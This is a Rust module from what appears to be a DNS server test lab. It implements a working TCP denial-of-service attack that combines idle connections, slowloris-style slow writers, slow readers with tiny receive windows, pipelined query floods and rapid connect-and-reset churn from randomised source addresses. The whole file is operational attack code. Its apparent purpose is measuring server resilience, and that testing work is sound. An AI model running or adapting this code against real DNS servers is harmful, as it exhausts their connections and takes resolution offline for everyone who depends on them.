//! Attacks by TCP: connections that do nothing, that send a byte now and then, that ask much and read nothing, that come and
//! go by the thousand, and that carry more queries than anybody answers. From many addresses, on one thread.
//!
//! | habit | how many | does |
//! | --- | --- | --- |
//! | idle | 1,000 | connects, and no more |
//! | slow writers | 300 | send one byte of a query every [`VISIT_EVERY`] |
//! | slow readers | 300 | ask for large answers into a window of a few bytes, and never read |
//! | heaps | 200 | send [`HEAP_QUERIES`] queries at a time, at the attack's rate together |
//! | passers-by | up to 1,500 | connect, ask once and reset; one for every [`QUERIES_FOR_ONE`] queries |
//!
//! Whoever is thrown out comes back with its next turn. It is an open loop as the other attacks are: queries that no
//! connection takes are counted as late.

use std::{
    collections::VecDeque,
    io::{self, Read, Write},
    net::{Ipv4Addr, SocketAddrV4, TcpStream},
    os::fd::AsRawFd,
    sync::atomic::{AtomicBool, Ordering},
    thread,
    time::{Duration, Instant},
};

use nix::{
    libc,
    sys::{
        resource::{Resource, getrlimit, setrlimit},
        socket::{
            AddressFamily, SockFlag, SockType, SockaddrIn, bind, connect, setsockopt, socket,
            sockopt::{Linger, RcvBuf},
        },
    },
};

use super::{
    CONNECTING, Facts, Target,
    generator::{greedy, valid},
    packets::append,
    sender::{Log, Schedule, Second},
};
use crate::{LabError, random::Random};

/// Connections that do nothing.
const IDLE: usize = 1000;
/// Connections that send a byte now and then.
const SLOW_WRITERS: usize = 300;
/// Connections that ask and do not read.
const SLOW_READERS: usize = 300;
/// Connections that carry the queries.
const HEAPS: usize = 200;
/// Connections that have come and not gone yet, at most.
const PASSERS_BY_MAX: usize = 1500;
/// Open files that all of them need, with some to spare.
const FILES: u64 = 4096;
/// Queries that are written at once.
const HEAP_QUERIES: usize = 32;
/// There is one passer-by for so many queries.
const QUERIES_FOR_ONE: u64 = 100;
/// A passer-by goes after this time, answered or not.
const PASSES_AFTER: Duration = Duration::from_millis(100);
/// The heaps come first: servers take some hundred connections, and those that hold them are to be those that cost most.
const HEAD_START: Duration = Duration::from_millis(300);
/// Each idle or slow connection has its turn once in this time.
const VISIT_EVERY: Duration = Duration::from_millis(250);
/// Between two looks at the clock.
const TICK: Duration = Duration::from_millis(1);
/// The window of a slow reader.
const WINDOW_BYTES: usize = 2048;
/// Answers that are read, and forgotten, at once.
const READ_BYTES: usize = 1 << 16;

/// What a connection does with its turn.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
enum Habit {
    Idle,
    SlowWriter,
    SlowReader,
}

/// A connection, open or opening; closing it resets it, so that no port waits.
struct Connection {
    stream: TcpStream,
    opened: Instant,
    /// What the kernel did not take of the last query.
    rest: Vec<u8>,
    /// Bytes of a slow writer's query that it has sent.
    written: usize,
}

/// Why a connection is of no use any more: the server has closed it, or does not take it.
struct Gone;

impl Connection {
    fn open(target: SocketAddrV4, random: &mut Random, slow: bool) -> nix::Result<Connection> {
        let flags = SockFlag::SOCK_CLOEXEC | SockFlag::SOCK_NONBLOCK;
        let socket = socket(AddressFamily::Inet, SockType::Stream, flags, None)?;
        let [first, second, ..] = CONNECTING.octets();
        let source = Ipv4Addr::new(first, second, random.byte(), 1 + random.below(254) as u8);
        setsockopt(&socket, Linger, &libc::linger { l_onoff: 1, l_linger: 0 })?;
        if slow {
            setsockopt(&socket, RcvBuf, &WINDOW_BYTES)?;
        }
        bind(socket.as_raw_fd(), &SockaddrIn::from(SocketAddrV4::new(source, 0)))?;
        match connect(socket.as_raw_fd(), &SockaddrIn::from(target)) {
            Ok(()) | Err(nix::Error::EINPROGRESS) => {}
            Err(errno) => return Err(errno),
        }
        Ok(Connection { stream: TcpStream::from(socket), opened: Instant::now(), rest: Vec::new(), written: 0 })
    }

    /// Write as much as the kernel takes; whether that was all.
    fn write(&mut self, bytes: &[u8]) -> Result<bool, Gone> {
        match self.stream.write(bytes) {
            Ok(taken) if taken == bytes.len() => Ok(true),
            Ok(taken) => {
                self.rest = bytes.get(taken..).unwrap_or_default().to_vec();
                Ok(true)
            }
            Err(error) if waits(&error) => Ok(false),
            Err(_) => Err(Gone),
        }
    }

    /// Write what was left over; whether nothing is any more.
    fn flush(&mut self) -> Result<bool, Gone> {
        let rest = std::mem::take(&mut self.rest);
        if rest.is_empty() || self.write(&rest)? {
            return Ok(self.rest.is_empty());
        }
        self.rest = rest;
        Ok(false)
    }

    /// Read what is there and forget it.
    fn read(&mut self, into: &mut [u8]) -> Result<(), Gone> {
        match self.stream.read(into) {
            Ok(0) => Err(Gone),
            Ok(_) => Ok(()),
            Err(error) if waits(&error) => Ok(()),
            Err(_) => Err(Gone),
        }
    }
}

/// It is not connected yet, its buffer is full, or there is nothing to read: another time.
fn waits(error: &io::Error) -> bool {
    matches!(error.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::NotConnected | io::ErrorKind::Interrupted)
}

/// Connections of one habit, each with its turn.
struct Group {
    habit: Habit,
    connections: Vec<Option<Connection>>,
    /// Turns that there were so far.
    turns: u64,
}

/// The thread's own.
pub(super) struct Attacker {
    target: SocketAddrV4,
    random: Random,
    schedule: Schedule,
    queries: Vec<Vec<u8>>,
    greedy: Vec<Vec<u8>>,
    groups: Vec<Group>,
    heaps: Vec<Option<Connection>>,
    passers_by: VecDeque<Connection>,
    buffer: Vec<u8>,
}

/// Make the attacker's addresses its own, and allow as many files as it needs.
pub(super) fn prepare(target: &Target) -> Result<(), LabError> {
    let file_exists = |error: &LabError| error.to_string().contains("File exists");
    match target.namespace.own_prefix(CONNECTING, 16) {
        Err(error) if !file_exists(&error) => return Err(error),
        _ => {}
    }
    let (soft, hard) =
        getrlimit(Resource::RLIMIT_NOFILE).map_err(LabError::errno("asking how many files may be open"))?;
    if soft < FILES {
        let allowed = setrlimit(Resource::RLIMIT_NOFILE, FILES.min(hard), hard);
        allowed.map_err(LabError::errno(format!("allowing {FILES} open files")))?;
    }
    Ok(())
}

impl Attacker {
    pub(super) fn new(target: &Target, schedule: Schedule, seed: u64) -> Result<Attacker, LabError> {
        let group = |habit, size: usize| {
            let connections = std::iter::repeat_with(|| None).take(size).collect();
            Group { habit, connections, turns: 0 }
        };
        Ok(Attacker {
            target: SocketAddrV4::new(target.address, target.port),
            random: Random::new(seed),
            schedule,
            queries: framed(valid, &target.facts)?,
            greedy: framed(greedy, &target.facts)?,
            groups: vec![
                group(Habit::Idle, IDLE),
                group(Habit::SlowWriter, SLOW_WRITERS),
                group(Habit::SlowReader, SLOW_READERS),
            ],
            heaps: std::iter::repeat_with(|| None).take(HEAPS).collect(),
            passers_by: VecDeque::new(),
            buffer: vec![0; READ_BYTES],
        })
    }

    /// Go on until told to stop or the schedule is over. In the attacker's namespace.
    pub(super) fn run(&mut self, stop: &AtomicBool, log: &Log) {
        let (mut asked, mut passed, mut turn) = (0_u64, 0_u64, 0_usize);
        while !stop.load(Ordering::Relaxed) {
            let elapsed = log.elapsed();
            if self.schedule.is_over(elapsed) {
                break;
            }
            let due = self.schedule.due(elapsed);
            let mut what = Second::default();
            if elapsed >= HEAD_START {
                self.take_turns(elapsed, &mut what);
            }
            let behind = due.saturating_sub(asked).min(self.schedule.late_max());
            what.late += due.saturating_sub(asked) - behind;
            self.send_heaps(behind, &mut turn, &mut what);
            asked = due;
            let come = (due / QUERIES_FOR_ONE).saturating_sub(passed).min(PASSERS_BY_MAX as u64);
            self.pass_by(come, &mut what);
            passed = due / QUERIES_FOR_ONE;
            log.add(what);
            thread::sleep(TICK);
        }
    }

    fn open(&mut self, slow: bool, what: &mut Second) -> Option<Connection> {
        let connection = Connection::open(self.target, &mut self.random, slow).ok()?;
        what.connections += 1;
        Some(connection)
    }

    /// The idle and the slow ones whose turn it is.
    fn take_turns(&mut self, elapsed: Duration, what: &mut Second) {
        for at in 0..self.groups.len() {
            let Some(group) = self.groups.get_mut(at) else { return };
            let (habit, size) = (group.habit, group.connections.len());
            let due = (elapsed.as_secs_f64() / VISIT_EVERY.as_secs_f64() * size as f64) as u64;
            // Turns that were missed are missed.
            let turns = due.saturating_sub(group.turns).min(size as u64);
            group.turns = due;
            for turn in due - turns..due {
                let place = usize::try_from(turn).unwrap_or(0) % size.max(1);
                let taken = self.groups.get_mut(at).and_then(|group| group.connections.get_mut(place)?.take());
                let connection = match taken {
                    Some(connection) => self.take_turn(habit, connection),
                    None => self.open(habit == Habit::SlowReader, what),
                };
                if let Some(empty) = self.groups.get_mut(at).and_then(|group| group.connections.get_mut(place)) {
                    *empty = connection;
                }
            }
        }
    }

    fn take_turn(&mut self, habit: Habit, mut connection: Connection) -> Option<Connection> {
        let Attacker { random, queries, greedy, buffer, .. } = self;
        let done = match habit {
            Habit::Idle => connection.read(buffer),
            Habit::SlowWriter => {
                let query = queries.first().map_or(&[][..], Vec::as_slice);
                let byte = query.get(connection.written % query.len().max(1)).copied().unwrap_or(0);
                let written = connection.write(&[byte]);
                connection.written += usize::from(matches!(written, Ok(true)));
                written.and_then(|_| connection.read(buffer))
            }
            Habit::SlowReader => connection.flush().and_then(|flushed| {
                let heap = if flushed { heap(greedy, HEAP_QUERIES, random) } else { Vec::new() };
                if heap.is_empty() { Ok(()) } else { connection.write(&heap).map(drop) }
            }),
        };
        done.ok().map(|()| connection)
    }

    /// Send so many queries, some on each connection in turn.
    fn send_heaps(&mut self, count: u64, turn: &mut usize, what: &mut Second) {
        let mut left = usize::try_from(count).unwrap_or(0);
        for _ in 0..HEAPS {
            if left == 0 {
                return;
            }
            *turn = (*turn + 1) % HEAPS;
            let taken = self.heaps.get_mut(*turn).and_then(Option::take);
            let Some(mut connection) = taken.or_else(|| self.open(false, what)) else { continue };
            let count = left.min(HEAP_QUERIES);
            let bytes = heap(&self.queries, count, &mut self.random);
            let done = connection
                .read(&mut self.buffer)
                .and_then(|()| connection.flush())
                .and_then(|flushed| Ok(flushed && connection.write(&bytes)?));
            match done {
                Ok(true) => {
                    what.packets += count as u64;
                    what.bytes += bytes.len() as u64;
                    left -= count;
                }
                Ok(false) => {}
                Err(Gone) => continue,
            }
            if let Some(place) = self.heaps.get_mut(*turn) {
                *place = Some(connection);
            }
        }
        what.late += left as u64;
    }

    /// So many come; those that have been here for long enough ask and go.
    fn pass_by(&mut self, count: u64, what: &mut Second) {
        for _ in 0..count {
            let Some(connection) = self.open(false, what) else { break };
            self.passers_by.push_back(connection);
        }
        let full = |passers_by: &VecDeque<Connection>| passers_by.len() > PASSERS_BY_MAX;
        while full(&self.passers_by)
            || self.passers_by.front().is_some_and(|first| first.opened.elapsed() >= PASSES_AFTER)
        {
            let Some(mut connection) = self.passers_by.pop_front() else { return };
            let query = heap(&self.queries, 1, &mut self.random);
            if let Ok(true) = connection.write(&query) {
                what.packets += 1;
                what.bytes += query.len() as u64;
            }
        }
    }
}

/// Queries with their lengths before them, RFC 1035 §4.2.2.
fn framed(of: impl FnOnce(&Facts) -> Result<Vec<Vec<u8>>, LabError>, facts: &Facts) -> Result<Vec<Vec<u8>>, LabError> {
    let frame = |query: &Vec<u8>| [&(query.len() as u16).to_be_bytes()[..], query].concat();
    Ok(of(facts)?.iter().map(frame).collect())
}

/// So many of these queries one after the other.
fn heap(queries: &[Vec<u8>], count: usize, random: &mut Random) -> Vec<u8> {
    let mut bytes = Vec::new();
    for _ in 0..count {
        let Some((length, query)) = random.pick(queries).and_then(|query| query.split_at_checked(2)) else { break };
        bytes.extend_from_slice(length);
        append(query, &mut bytes, random);
    }
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attack::tests::target;

    #[test]
    fn a_heap_is_queries_with_their_lengths() {
        let queries = framed(valid, &target().facts).unwrap();
        let bytes = heap(&queries, 5, &mut Random::new(1));
        let mut rest = bytes.as_slice();
        for _ in 0..5 {
            let (length, behind) = rest.split_first_chunk::<2>().unwrap();
            let (query, behind) = behind.split_at(usize::from(u16::from_be_bytes(*length)));
            assert_eq!(query[4..6], [0, 1]);
            rest = behind;
        }
        assert!(rest.is_empty());
        assert!(heap(&[], 5, &mut Random::new(1)).is_empty());
    }
}
